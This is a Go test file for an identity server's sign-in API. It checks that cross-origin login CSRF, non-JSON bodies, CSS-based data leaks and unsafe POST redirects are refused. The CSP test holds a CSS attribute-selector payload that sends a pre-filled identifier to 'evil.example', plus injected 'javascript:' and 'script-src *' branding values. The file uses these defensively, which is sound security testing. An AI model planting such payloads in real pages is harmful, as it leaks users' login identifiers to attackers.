package experience

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/gatehouse-id/gatehouse/internal/model"
)

// TestExperienceAPIRefusesCrossOrigin replays the outside review's login CSRF: a page on another
// origin drives the victim's pending interaction through the four sign-in calls with the
// attacker's credentials. Each call must be refused before it changes anything, whichever way
// the browser marks it as foreign; the same calls from the page's own origin still sign in.
func TestExperienceAPIRefusesCrossOrigin(t *testing.T) {
	h := newHarness(t)
	h.createUser("mallory", "", alicePassword)
	n := h.node(RateLimit{})

	const evil = "https://evil.example"
	for _, tc := range []struct {
		name   string
		header http.Header
	}{
		{"a foreign Origin", http.Header{"Origin": {evil}}},
		{"Sec-Fetch-Site cross-site", http.Header{"Sec-Fetch-Site": {"cross-site"}, "Origin": {evil}}},
		// A sibling subdomain is another origin: same-site is refused too.
		{"Sec-Fetch-Site same-site from another origin", http.Header{"Sec-Fetch-Site": {"same-site"}, "Origin": {"https://blog." + strings.TrimPrefix(n.srv.URL, "http://")}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b := n.browser()
			in := b.startInteraction(nil)
			calls := []struct{ method, path, body string }{
				{http.MethodPut, "/api/experience", `{"interactionEvent":"SignIn"}`},
				{http.MethodPost, "/api/experience/verification/password", `{"identifier":{"type":"username","value":"mallory"},"password":"` + alicePassword + `"}`},
				{http.MethodPost, "/api/experience/identification", `{}`},
				{http.MethodPost, "/api/experience/submit", ``},
			}
			for _, c := range calls {
				r := b.do(c.method, c.path, strings.NewReader(c.body), "application/json", tc.header)
				wantStatus(t, r, http.StatusForbidden, "auth.forbidden", c.method+" "+c.path)
			}
			if got := h.interaction(in.UID); got.Result != nil || got.Version != in.Version {
				t.Fatalf("the refused calls changed the interaction: result %+v, version %d → %d", got.Result, in.Version, got.Version)
			}
			// Reading is not a write: the interaction is still only the victim's to read.
			wantStatus(t, b.do(http.MethodGet, "/api/experience/interaction", nil, "", tc.header),
				http.StatusNotFound, "session.interaction_not_found", "GET from another origin")
		})
	}

	t.Run("the page's own origin signs in", func(t *testing.T) {
		b := n.browser()
		in := b.startInteraction(nil)
		same := http.Header{"Sec-Fetch-Site": {"same-origin"}, "Origin": {n.srv.URL}}
		wantStatus(t, b.do(http.MethodPut, "/api/experience", strings.NewReader(`{"interactionEvent":"SignIn"}`), "application/json", same),
			http.StatusNoContent, "", "same-origin PUT")
		if r := b.signInAPI("username", "mallory", alicePassword); r.status != http.StatusOK {
			t.Fatalf("same-origin sign-in: %d %s", r.status, r.body)
		}
		if h.interaction(in.UID).Result == nil {
			t.Fatal("the same-origin sign-in left no result")
		}
	})
}

// TestExperienceAPIRequiresJSON: a body a page can send without a CORS preflight (text/plain,
// a form) is refused with 415 before it is parsed, even from a client that sends no
// Sec-Fetch-Site or Origin (an old browser, a plug-in).
func TestExperienceAPIRequiresJSON(t *testing.T) {
	h := newHarness(t)
	h.createUser("mallory", "", alicePassword)
	n := h.node(RateLimit{})
	b := n.browser()
	in := b.startInteraction(nil)

	body := `{"interactionEvent":"SignIn"}`
	for _, ct := range []string{"text/plain", "text/plain;charset=UTF-8", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "", "application/json-evil"} {
		r := b.do(http.MethodPut, "/api/experience", strings.NewReader(body), ct, nil)
		wantStatus(t, r, http.StatusUnsupportedMediaType, "guard.mime_type_not_allowed", "PUT with Content-Type "+ct)
	}
	if got := h.interaction(in.UID); got.Version != in.Version || len(got.Experience) != 0 {
		t.Fatalf("a refused body started the interaction: %s", got.Experience)
	}
	wantStatus(t, b.do(http.MethodPut, "/api/experience", strings.NewReader(body), "application/json; charset=utf-8", nil),
		http.StatusNoContent, "", "PUT with application/json; charset=utf-8")
	wantStatus(t, b.do(http.MethodPost, "/api/experience/submit", strings.NewReader("x"), "text/plain", nil),
		http.StatusUnsupportedMediaType, "guard.mime_type_not_allowed", "submit with a text/plain body")
}

// TestPageCSPKeepsCustomCSSAtHome: custom CSS can match the pre-filled identifier with an
// attribute selector and name a background image or font at another host, which would send the
// identifier there. The pages' CSP lets images come only from the page's origin, data: URLs and
// the configured logo and favicon hosts, and fonts only from the origin and data: URLs.
func TestPageCSPKeepsCustomCSSAtHome(t *testing.T) {
	h := newHarness(t)
	h.createUser("alice", "", alicePassword)
	n := h.node(RateLimit{})
	h.backend.setSIE(func(s *model.SignInExperience) {
		s.Branding = model.Branding{LogoURL: "https://cdn.example.com/logo.svg", DarkLogoURL: "https://CDN2.example.com:8443/dark.svg",
			Favicon: "javascript:alert(1)", DarkFavicon: "https://x.example.com;script-src *"}
		s.CustomCSS = ptr(`input[value^="a"]{background:url(https://evil.example/?a)}`)
	})
	b := n.browser()
	b.startInteraction(func(in *model.Interaction) { in.Params.LoginHint = "alice" })
	r := b.get("/sign-in?app_id="+h.app.ID, nil)
	wantStatus(t, r, http.StatusOK, "", "sign-in page")
	directives := map[string]string{}
	for _, d := range strings.Split(r.header.Get("Content-Security-Policy"), ";") {
		name, value, _ := strings.Cut(strings.TrimSpace(d), " ")
		directives[name] = value
	}
	if got, want := directives["img-src"], "'self' data: https://cdn.example.com https://cdn2.example.com:8443"; got != want {
		t.Errorf("img-src %q, want %q", got, want)
	}
	if got, want := directives["font-src"], "'self' data:"; got != want {
		t.Errorf("font-src %q, want %q", got, want)
	}
	if directives["script-src"] != "'none'" || directives["frame-ancestors"] != "'none'" {
		t.Errorf("CSP %q", r.header.Get("Content-Security-Policy"))
	}
	for k, v := range map[string]string{"Referrer-Policy": "no-referrer", "X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY"} {
		if got := r.header.Get(k); got != v {
			t.Errorf("%s = %q, want %q", k, got, v)
		}
	}
}

// TestFormPostWithoutSessionRedirectsWith303: a form posted after the interaction is gone is
// sent on with 303, never 302 or 307, so no client repeats the POST and its password at the
// next address (RFC 9700 §4.12); a page opened without a session keeps Logto's 302.
func TestFormPostWithoutSessionRedirectsWith303(t *testing.T) {
	h := newHarness(t)
	n := h.node(RateLimit{})
	b := n.browser()
	form := url.Values{"identifier": {"alice"}, "password": {alicePassword}}
	for _, path := range []string{"/sign-in", "/register", "/consent"} {
		r := b.post(path, form)
		if r.status != http.StatusSeeOther || !strings.HasPrefix(r.header.Get("Location"), "/unknown-session") {
			t.Errorf("POST %s without a session: %d Location %q; want 303 to /unknown-session", path, r.status, r.header.Get("Location"))
		}
	}
	h.backend.setSIE(func(s *model.SignInExperience) { s.UnknownSessionRedirectURL = ptr("https://app.example.com/") })
	if r := b.post("/sign-in", form); r.status != http.StatusSeeOther || r.header.Get("Location") != "https://app.example.com/" {
		t.Errorf("POST /sign-in with unknownSessionRedirectUrl: %d %q", r.status, r.header.Get("Location"))
	}
	if r := b.get("/sign-in", nil); r.status != http.StatusFound {
		t.Errorf("GET /sign-in without a session: %d, want Logto's 302", r.status)
	}
}
